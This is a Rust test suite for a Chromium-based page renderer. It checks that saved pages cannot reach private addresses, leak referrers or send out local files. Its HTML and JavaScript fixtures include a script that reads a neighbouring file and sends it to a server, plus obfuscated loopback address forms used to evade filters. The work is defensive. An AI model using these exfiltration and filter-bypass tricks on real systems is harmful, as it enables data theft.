//! Tests pages that try to reach forbidden targets: one page makes every attempt in a table, and
//! the server records the requests that arrive.

use crate::answers::Answers;
use crate::program::{Outcome, one_browser, text_named, vclean, vclean_with_browser};
use std::net::UdpSocket;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

const STORY: &str = "The chemist at the corner weighed every letter before he opened it, and wrote the weight on the stamp.";

/// Renders one saved page in Chromium; returns the outcome and the text of all its blocks, kept or
/// dropped.
fn render(page: &Path, options: &[&str]) -> (Outcome, String) {
    let out = tempfile::tempdir().unwrap();
    let fixed = [
        "--engine",
        "chromium",
        "--format",
        "json",
        "--timeout",
        "10",
        "--out",
    ];
    let paths = [out.path().display().to_string(), page.display().to_string()];
    let outcome = {
        let _alone = one_browser();
        vclean(
            ["render-and-clean"]
                .iter()
                .chain(options)
                .chain(&fixed)
                .map(|&word| word.to_owned())
                .chain(paths),
        )
    };
    assert_eq!(outcome.code, Some(0), "{}", outcome.stderr);
    let name = page.file_stem().unwrap().to_string_lossy().into_owned();
    let text = text_named(out.path(), &name);
    assert!(
        text.contains("The chemist at the corner"),
        "{text}: {}",
        outcome.stderr
    );
    (outcome, text)
}

/// Makes a page in which each line of `attempts` is one attempt; `P` stands for the port.
fn with_port(attempts: &str, port: u16) -> String {
    attempts
        .replace(":P/", &format!(":{port}/"))
        .replace(":P?", &format!(":{port}?"))
}

/// Every element that loads something.
const ELEMENTS: &str = r#"
<link rel=stylesheet href="http://HOST:P/link.css"><link rel=icon href="http://HOST:P/icon.png">
<link rel=preload as=image href="http://HOST:P/preload.png"><link rel=prefetch href="http://HOST:P/prefetch">
<link rel=preconnect href="http://HOST:P/"><link rel=dns-prefetch href="http://HOST:P/"><link rel=manifest href="http://HOST:P/manifest">
<style>@import "http://HOST:P/import.css"; @font-face { font-family: f; src: url(http://HOST:P/font.woff) } p { font-family: f;
background: url(http://HOST:P/background.png); list-style: url(http://HOST:P/list.png); cursor: url(http://HOST:P/cursor.png), auto }
h1::before { content: url(http://HOST:P/content.png) } h1 { border-image: url(http://HOST:P/border.png) 1; mask: url(http://HOST:P/mask.svg) }</style>
<img src="http://HOST:P/img.png" srcset="http://HOST:P/srcset.png 2x"><picture><source srcset="http://HOST:P/source.png"><img></picture>
<iframe src="http://HOST:P/frame"></iframe><object data="http://HOST:P/object"></object><embed src="http://HOST:P/embed">
<video src="http://HOST:P/video.mp4" poster="http://HOST:P/poster.png" autoplay></video><audio src="http://HOST:P/audio.mp3" autoplay></audio>
<svg><image href="http://HOST:P/svg.png" /><use href="http://HOST:P/use.svg#a" /></svg><input type=image src="http://HOST:P/input.png">
<script src="http://HOST:P/script.js"></script><table background="http://HOST:P/table.png"><tr><td>cell</table>
"#;

/// Every way in which a script can reach the network.
const SCRIPTS: &str = r"
const tries = (host) => [
  () => fetch(`http://${host}:P/fetch`, { mode: 'no-cors' }), () => fetch(`https://${host}:P/fetch-tls`, { mode: 'no-cors' }),
  () => { const x = new XMLHttpRequest(); x.open('POST', `http://${host}:P/xhr`); x.send('x') },
  () => new WebSocket(`ws://${host}:P/socket`), () => new WebSocket(`wss://${host}:P/socket-tls`),
  () => new EventSource(`http://${host}:P/events`), () => navigator.sendBeacon(`http://${host}:P/beacon`, 'x'),
  () => new Worker(URL.createObjectURL(new Blob([`fetch('http://${host}:P/worker', { mode: 'no-cors' }); new WebSocket('ws://${host}:P/worker-socket')`]))),
  () => new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://${host}:P/shared', { mode: 'no-cors' })`]))),
  () => { new Image().src = `http://${host}:P/image` }, () => import(`http://${host}:P/module.js`),
  () => new WebTransport(`https://${host}:P/transport`), () => window.open(`http://${host}:P/popup`),
  () => { const f = document.createElement('form'); f.method = 'post'; f.target = '_blank'; f.action = `http://${host}:P/form`; document.body.append(f); f.submit() },
  () => { const f = document.createElement('iframe'); f.src = `http://${host}:P/inner`; document.body.append(f) },
  () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = `http://${host}:P/late`; document.head.append(l) },
  () => { const c = new RTCPeerConnection({ iceServers: [{ urls: [`stun:${host}:P?transport=udp`, `stun:${host}:P?transport=tcp`] }] });
          c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) },
  () => { location.href = `http://${host}:P/away` },
];
for (const host of hosts) for (const attempt of tries(host)) { try { Promise.resolve(attempt()).catch(() => 0) } catch {} }
";

const HOSTS: [&str; 9] = [
    "127.0.0.1",
    "localhost",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "0.0.0.0",
    "2130706433",
    "0x7f.1",
    "127.1",
    "017700000001",
];

#[test]
fn no_element_and_no_script_of_a_page_reaches_a_private_address() {
    let server = Answers::page("<p>secret");
    let datagrams = UdpSocket::bind(("127.0.0.1", server.port())).unwrap();
    datagrams.set_nonblocking(true).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let elements: String = HOSTS
        .iter()
        .map(|host| ELEMENTS.replace("HOST", host))
        .collect();
    let page = folder.path().join("page.html");
    let html = format!(
        "<!doctype html><meta charset=utf-8><h1>Attempts</h1><p>{STORY}</p>{elements}<script>const hosts = {HOSTS:?}; {SCRIPTS}</script>"
    );
    std::fs::write(&page, with_port(&html, server.port())).unwrap();
    // The attempts succeed if they are allowed.
    render(
        &page,
        &["--scripts", "on", "--allow-network", "--allow-private"],
    );
    let seen = server.take_requests().concat();
    for kind in [
        "link.css",
        "import.css",
        "img.png",
        "frame",
        "object",
        "svg.png",
        "script.js",
        "fetch",
        "xhr",
        "socket",
        "events",
        "beacon",
        "worker",
        "worker-socket",
        "image",
        "module.js",
        "inner",
    ] {
        assert!(seen.contains(&format!(" /{kind} ")), "{kind} is no attempt");
    }
    while datagrams.recv(&mut [0; 100]).is_ok() {}
    // With a network that refuses the addresses, and without a network.
    for network in [
        &["--scripts", "on", "--allow-network"][..],
        &["--scripts", "on"],
    ] {
        let (outcome, text) = render(&page, network);
        assert_eq!(server.requests(), Vec::<String>::new(), "{network:?}");
        assert!(
            datagrams.recv(&mut [0; 100]).is_err(),
            "{network:?}: a datagram came through"
        );
        assert!(
            !text.contains("loopback") && !text.contains("refused"),
            "the refusals are no text: {text}"
        );
        let warning = if network.len() == 3 {
            "--allow-private"
        } else {
            "--allow-network"
        };
        assert!(
            outcome.stderr.contains(warning),
            "{network:?}: {}",
            outcome.stderr
        );
    }
}

#[test]
fn scripts_of_a_saved_page_cannot_send_away_what_lies_beside_it() {
    let server = Answers::page("<p>received");
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("diary.txt"), "nightingale").unwrap();
    let page = folder.path().join("page.html");
    let html = format!(
        "<!doctype html><meta charset=utf-8><h1>Diary</h1><p>{STORY}</p><p id=p>It has read nothing.</p><script>
         fetch('diary.txt').then((r) => r.ok ? r.text() : 'nothing').then((t) => {{ p.textContent = 'It has read ' + t + '.';
         fetch('http://127.0.0.1:P/?' + t, {{ mode: 'no-cors' }}); new Image().src = 'http://127.0.0.1:P/image?' + t }})</script>"
    );
    std::fs::write(&page, with_port(&html, server.port())).unwrap();
    let (outcome, text) = render(&page, &["--scripts", "on", "--allow-private"]);
    assert!(
        text.contains("It has read nightingale."),
        "without a network it may read its neighbors: {text}"
    );
    assert_eq!(server.requests(), Vec::<String>::new());
    assert!(
        outcome.stderr.contains("127.0.0.1 was not loaded")
            && outcome.stderr.contains("--allow-network")
    );
    let (_, text) = render(
        &page,
        &["--scripts", "on", "--allow-private", "--allow-network"],
    );
    assert!(text.contains("It has read nothing."), "{text}");
    let seen = server.requests().concat();
    assert!(
        seen.contains("nothing") && !seen.contains("nightingale"),
        "{seen}"
    );
}

#[test]
fn a_saved_page_is_not_left_and_does_not_name_itself_to_servers() {
    let server =
        Answers::page("<p>another page, which nobody asked for, in the place of the first one");
    let folder = tempfile::tempdir().unwrap();
    let refresh =
        |attributes: &str| format!("<meta {attributes} content='0;url=http://127.0.0.1:P/away'>");
    let refreshes = [
        refresh("http-equiv=refresh"),
        refresh("HTTP-EQUIV=\"REFRESH\""),
        refresh("Http-Equiv=Refresh"),
        refresh("http-equiv=\"&#114;efresh\""),
        refresh("http-equiv = '\nrefresh'"),
    ];
    for (number, refresh) in refreshes.iter().enumerate() {
        let html = format!(
            "<!doctype html><meta charset=utf-8><meta name=referrer content=unsafe-url>{refresh}<h1>Stays</h1><p>{STORY}</p>
             <img src='http://127.0.0.1:P/picture' referrerpolicy=unsafe-url><iframe src='http://127.0.0.1:P/frame'></iframe>
             <link rel=stylesheet href='http://127.0.0.1:P/style'>"
        );
        std::fs::write(
            folder.path().join(format!("page{number}.html")),
            with_port(&html, server.port()),
        )
        .unwrap();
    }
    let out = folder.path().join("out");
    let pages = (0..refreshes.len()).map(|number| {
        folder
            .path()
            .join(format!("page{number}.html"))
            .display()
            .to_string()
    });
    let fixed = [
        "render-and-clean",
        "--engine",
        "chromium",
        "--allow-private",
        "--format",
        "json",
        "--out",
    ];
    let outcome = {
        let _alone = one_browser();
        vclean(
            fixed
                .map(str::to_owned)
                .into_iter()
                .chain([out.display().to_string()])
                .chain(pages),
        )
    };
    assert_eq!(outcome.code, Some(0), "{}", outcome.stderr);
    for (number, refresh) in refreshes.iter().enumerate() {
        assert!(
            text_named(&out, &format!("page{number}.")).contains("The chemist at the corner"),
            "{refresh}"
        );
    }
    let requests = server.requests();
    for path in ["GET /picture", "GET /frame", "GET /style"] {
        assert_eq!(
            requests
                .iter()
                .filter(|head| head.starts_with(path))
                .count(),
            refreshes.len(),
            "{path}"
        );
    }
    for head in &requests {
        let head = head.to_lowercase();
        assert!(
            !head.contains("referer") && !head.contains("saved.invalid"),
            "{head}"
        );
        assert!(
            !head.contains("get /away") && !head.contains("authorization"),
            "{head}"
        );
    }
}

#[test]
fn a_refused_frame_has_no_text() {
    let folder = tempfile::tempdir().unwrap();
    let page = folder.path().join("page.html");
    let frames: String = ["http://10.0.0.5/", "https://10.0.0.5/", "http://192.168.0.1/", "missing.html"]
        .map(|address| {
            format!("<iframe width=600 height=300 src='{address}'></iframe><object data='{address}'></object>")
        })
        .concat();
    std::fs::write(
        &page,
        format!("<!doctype html><meta charset=utf-8><h1>Frames</h1><p>{STORY}</p>{frames}"),
    )
    .unwrap();
    let (outcome, text) = render(&page, &[]);
    for word in [
        "10.0.0.5", "192.168", "private", "reached", "ERR_", "found", "HTTP",
    ] {
        assert!(!text.contains(word), "{word} in {text}");
    }
    assert!(
        outcome.stderr.contains("10.0.0.5") && outcome.stderr.contains("--allow-private"),
        "{}",
        outcome.stderr
    );
    assert_eq!(outcome.stderr.lines().count(), 1, "{}", outcome.stderr);
}

#[test]
fn the_output_of_a_program_that_is_no_browser_is_escaped_and_cut() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let program = folder.path().join("browser");
    let junk = "\\001\\033[2J\\377\\200\\302".repeat(500);
    std::fs::write(
        &program,
        format!("#!/bin/sh\nprintf '{junk}'\nprintf '{junk}' >&2\nexit 3\n"),
    )
    .unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let outcome = vclean_with_browser(
        &program,
        [
            "render-and-clean",
            "--engine",
            "chromium",
            "https://a.example/",
        ],
    );
    assert_eq!(outcome.code, Some(2), "{}", outcome.stderr);
    assert!(
        outcome.stderr.contains("ends at once") && outcome.stderr.contains("\\xff"),
        "{}",
        outcome.stderr
    );
    let is_plain = outcome
        .stderr
        .chars()
        .all(|c| c == '\n' || c.is_ascii() && !c.is_control());
    assert!(
        is_plain && outcome.stderr.len() < 600,
        "{} bytes: {:?}",
        outcome.stderr.len(),
        outcome.stderr
    );
}
